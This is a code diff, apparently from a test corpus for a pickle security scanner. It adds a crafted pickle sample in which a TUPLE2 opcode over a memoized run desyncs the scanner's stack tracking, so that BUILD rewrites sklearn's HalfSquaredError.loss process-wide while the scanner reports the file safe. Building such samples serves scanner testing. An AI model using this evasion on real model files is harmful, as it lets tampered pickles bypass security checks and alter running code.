@@ -19,6 +19,7 @@ from craft import CRASH, MEMORY, Raw, Sample, binget, call, check, i, pk, sglob,
 
 SECTION = "6"
 _RUN = 8  # entries in the vocabulary run (the walker takes runs of >= 8 in one step)
+_TUPLE2 = b"\x86"
 
 
 def _desync_prefix() -> bytes:
@@ -44,6 +45,17 @@ def _desync_build_class() -> bytes:
     return pk(body, framed=False)
 
 
+def _stack_desync_build_class() -> bytes:
+    """TUPLE2 over a vocabulary run and a value: the walker (until this round) took the run as one item,
+    so its stack fell 2*8-1 values short of CPython's. Fifteen POPs later the walker's top was the inert
+    instance 15 places down, CPython's the class: BUILD rewrote the class while scan said safe."""
+    entries = b"".join(u(f"w{k}") + C.MEMOIZE + i(k) for k in range(_RUN))
+    fillers = C.NONE * (2 * _RUN - 2)
+    body = (_INTERVAL + fillers + sglob("sklearn._loss.loss", "HalfSquaredError") + entries + u("x")
+            + _TUPLE2 + C.POP * (2 * _RUN) + tup(None, {"loss": _PWN}) + C.BUILD)
+    return pk(body, framed=False)
+
+
 def _desync_object_array() -> bytes:
     placeholder = call(sglob(*C.RECONSTRUCT), Raw(sglob("numpy", "ndarray")), (0,), b"b")
     state = tup(1, (64,), Raw(C.np_dtype("O8", C.DT_OBJ)), False, [1, 2, 3])
@@ -64,6 +76,15 @@ def samples() -> list[Sample]:
         "the class HalfSquaredError and the walker an inert instance, so BUILD (None, {...}) rewrote a method "
         "process-wide while scan said safe.",
         _desync_build_class(), "pickle",
+        check(f"__import__('sklearn._loss.loss', fromlist=['_']).HalfSquaredError.__dict__.get('loss') == {_PWN!r}"),
+        global_="sklearn._loss.loss.HalfSquaredError",
+    ))
+    out.append(Sample(
+        "s6_stack_desync_build_class.pkl", "stack-desync-build-class", SECTION,
+        "TUPLE2 over a vocabulary run: the walker took the run as one stack item instead of its 16 values, "
+        "so after 16 POPs its top was an inert instance and CPython's the class HalfSquaredError; BUILD "
+        "(None, {...}) rewrote a method process-wide (found by the oracle campaign, seed 11 case 430845).",
+        _stack_desync_build_class(), "pickle",
         check(f"__import__('sklearn._loss.loss', fromlist=['_']).HalfSquaredError.__dict__.get('loss') == {_PWN!r}"),
         global_="sklearn._loss.loss.HalfSquaredError",
     ))
